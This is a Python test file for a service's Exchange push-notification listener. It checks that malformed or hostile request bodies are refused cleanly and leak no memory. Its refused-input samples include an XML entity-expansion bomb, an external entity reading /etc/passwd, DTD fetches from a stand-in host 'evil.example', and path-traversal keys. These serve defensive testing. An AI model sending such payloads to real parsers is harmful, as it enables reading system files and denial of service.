"""Whatever is posted to the listener, it answers 200, 400, 404, 413 or 503, raises nothing and keeps nothing.

`EXSYNC_TEST_BODIES=100000` sends as many bodies as the issue names.
"""

import asyncio
import gc
import os
import random
import tracemalloc
from collections import Counter
from collections.abc import Callable

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from shared.errors import Transient
from shared.flows.keep_subscription import keep_subscription
from shared.flows.receive_push import LARGEST_BODY, receive_push
from shared.model.keys import listener_key
from shared.ports import World
from shared.wire.ews import send_notification
from tests.flows.breaking import guarded
from tests.flows.office import Office

MANY = int(os.environ.get("EXSYNC_TEST_BODIES", "3000"))
ALLOWED = {200, 400, 404, 413}
MESSAGES = "http://schemas.microsoft.com/exchange/services/2006/messages"
TYPES = "http://schemas.microsoft.com/exchange/services/2006/types"


def notification(subscription: str = "subscription/1", events: str = "", *, code: str = "NoError") -> bytes:
    events = events or "<t:NewMailEvent><t:Watermark>w</t:Watermark><t:ItemId Id='a'/></t:NewMailEvent>"
    return (
        f'<soap11:Envelope xmlns:soap11="http://schemas.xmlsoap.org/soap/envelope/"><soap11:Body>'
        f'<m:SendNotification xmlns:t="{TYPES}" xmlns:m="{MESSAGES}"><m:ResponseMessages>'
        f'<m:SendNotificationResponseMessage ResponseClass="Success"><m:ResponseCode>{code}</m:ResponseCode>'
        f"<m:Notification><t:SubscriptionId>{subscription}</t:SubscriptionId>"
        f"<t:PreviousWatermark>watermark/1</t:PreviousWatermark>{events}</m:Notification>"
        f"</m:SendNotificationResponseMessage></m:ResponseMessages></m:SendNotification></soap11:Body></soap11:Envelope>"
    ).encode()


GOOD = notification()
BOMB = (
    b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY a "lol">'
    + b"".join(b'<!ENTITY %c "%s">' % (98 + n, b"&%c;" % (97 + n) * 10) for n in range(9))
    + b"]><soap><b>&j;</b></soap>"
)
FILE = b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>' + GOOD.replace(b">w<", b">&e;<")
REFUSED = {
    "nothing": b"",
    "text": b"hello",
    "html": b"<html><body><p>502 Bad Gateway</body></html>",
    "bomb": BOMB,
    "external entity": FILE,
    "dtd": b"<!DOCTYPE soap SYSTEM 'http://evil.example/x.dtd'>" + GOOD,
    "parameter entity": b"<!DOCTYPE x [<!ENTITY % p SYSTEM 'http://evil.example/p'> %p;]>" + GOOD,
    "unknown entity": GOOD.replace(b">w<", b">&unknown;<"),
    "cut off": GOOD[:-40],
    "a fault": b"<Envelope xmlns='http://schemas.xmlsoap.org/soap/envelope/'><Body><Fault><faultcode>x</faultcode>"
    b"</Fault></Body></Envelope>",
    "another operation": GOOD.replace(b"SendNotification", b"GetItem"),
    "deep": b"<a>" * 50_000 + b"</a>" * 50_000,
    "two roots": GOOD + GOOD,
    "UTF-16 that is none": b"\xff\xfe" + GOOD,
    "JSON": b'{"value": []}',
}


async def opened() -> Office:
    office = Office()
    await office.open()
    await office.configure({"notifications": {"mode": "push", "url": "https://app.example/n"}})
    await office.settle()
    await keep_subscription(office.world(), "alice")
    return office


def key_of(office: Office) -> str:
    return listener_key("k" * 32, office.key.partition("-")[0])


async def answer(office: Office, body: bytes, *, key: str = "", world: World | None = None) -> int:
    told = await receive_push(world or office.world(), key or key_of(office), body)
    if told.status == 200:
        assert told.body in (send_notification.OK, send_notification.UNSUBSCRIBE)
    else:
        assert len(told.body) < 100 and told.content_type.startswith("text/plain")
    return told.status


async def test_a_genuine_notification_is_answered_ok() -> None:
    office = await opened()
    told = await receive_push(office.world(), key_of(office), GOOD)
    assert (told.status, told.body) == (200, send_notification.OK)
    told = await receive_push(office.world(), key_of(office), notification("another"))
    assert (told.status, told.body) == (200, send_notification.UNSUBSCRIBE)


@pytest.mark.parametrize("name", REFUSED)
async def test_what_is_no_notification_is_refused(name: str) -> None:
    office = await opened()
    before = await office.rows.query("collections", office.key)
    assert await answer(office, REFUSED[name]) == 400
    assert await office.rows.query("collections", office.key) == before


@pytest.mark.parametrize(
    "key", ["", "x", "x.y", "../../etc/passwd", "\ud800.x", "é" * 5000, ".", "a/b#c?d.e", "\x00.\x00"]
)
async def test_a_key_that_we_did_not_make_is_not_found_and_touches_nothing(key: str) -> None:
    office = await opened()
    untouched = guarded(office.world(), _Forbidden(), frozenset({"get", "query", "transact", "send"}))
    assert (await receive_push(untouched, key, GOOD)).status == 404
    forged = key_of(office)[:-1] + ("A" if key_of(office)[-1] != "A" else "B")
    assert (await receive_push(untouched, forged, GOOD)).status == 404


async def test_a_body_over_a_mebibyte_is_too_large_and_one_of_a_mebibyte_is_read() -> None:
    office = await opened()
    assert await answer(office, b" " * (LARGEST_BODY + 1)) == 413
    events = f"<t:NewMailEvent><t:Watermark>{'w' * (LARGEST_BODY - 2000)}</t:Watermark></t:NewMailEvent>"
    assert await answer(office, notification(events=events)) == 200
    assert await answer(office, notification("s" * 900_000)) == 200
    assert await answer(office, GOOD.replace(b">w<", b">\xff\xfe\xfa<")) in (200, 400)
    many = "<t:StatusEvent><t:Watermark>w</t:Watermark></t:StatusEvent>" * 10_000
    assert await answer(office, notification(events=many)) == 200
    attribute = GOOD.replace(b"Id='a'", b"Id='" + b"a" * 900_000 + b"'")
    assert await answer(office, attribute) in (200, 400)


async def test_when_storage_is_down_exchange_is_told_to_come_again() -> None:
    office = await opened()
    for name in ("get", "transact", "send"):
        broken = guarded(office.world(), _Broken(), frozenset({name}))
        assert await answer(office, GOOD, world=broken) == 503
        office.now = office.now.replace(hour=(office.now.hour + 1) % 24)


class _Forbidden:
    async def call(self, name: str, call: Callable[[], object]) -> object:
        raise AssertionError(f"{name} was called")


class _Broken:
    async def call(self, name: str, call: Callable[[], object]) -> object:
        raise Transient("storage-unavailable")


@settings(max_examples=400, deadline=None, suppress_health_check=list(HealthCheck))
@given(
    body=st.one_of(
        st.binary(max_size=300),
        st.text(max_size=300).map(lambda text: notification(text).replace(b"&", b"&amp;")),
        st.text(max_size=300).map(lambda text: notification(events=text)),
        st.builds(
            lambda start, end, junk: GOOD[:start] + junk + GOOD[start + end :],
            st.integers(0, len(GOOD)),
            st.integers(0, 80),
            st.binary(max_size=40),
        ),
    )
)
def test_no_body_raises(body: bytes) -> None:
    assert asyncio.run(_answer_anew(body)) in ALLOWED


async def _answer_anew(body: bytes) -> int:
    return await answer(await opened(), body)


async def test_many_bodies_leave_memory_as_it_was() -> None:
    office = await opened()
    chance = random.Random(1)
    statuses = Counter([await answer(office, _malicious(chance)) for _ in range(1000)])
    gc.collect()
    tracemalloc.start(1)
    try:
        before = tracemalloc.get_traced_memory()[0]
        for number in range(MANY):
            statuses[await answer(office, _malicious(chance))] += 1
            if number % 50 == 0:
                office.queues.receive("collections")
        office.queues.receive("collections")
        gc.collect()
        grown = tracemalloc.get_traced_memory()[0] - before
    finally:
        tracemalloc.stop()
    assert set(statuses) <= ALLOWED and statuses[400] and statuses[200]
    assert grown < 512 * 1024, f"{grown} bytes more after {MANY} bodies"


def _malicious(chance: random.Random) -> bytes:
    sort = chance.randrange(6)
    if sort == 0:
        return chance.choice(list(REFUSED.values()))
    if sort == 1:
        return chance.randbytes(chance.randrange(2000))
    if sort == 2:
        name = f"n{chance.randrange(10**9)}"
        return GOOD.replace(b"t:NewMailEvent", f"t:{name}".encode()).replace(b"Id=", f"{name}=".encode())
    if sort == 3:
        return notification(f"subscription/{chance.randrange(3)}")
    if sort == 4:
        return notification(events="<t:StatusEvent/>" * chance.randrange(200))
    start = chance.randrange(len(GOOD))
    return GOOD[:start] + chance.randbytes(chance.randrange(20)) + GOOD[start + chance.randrange(30) :]
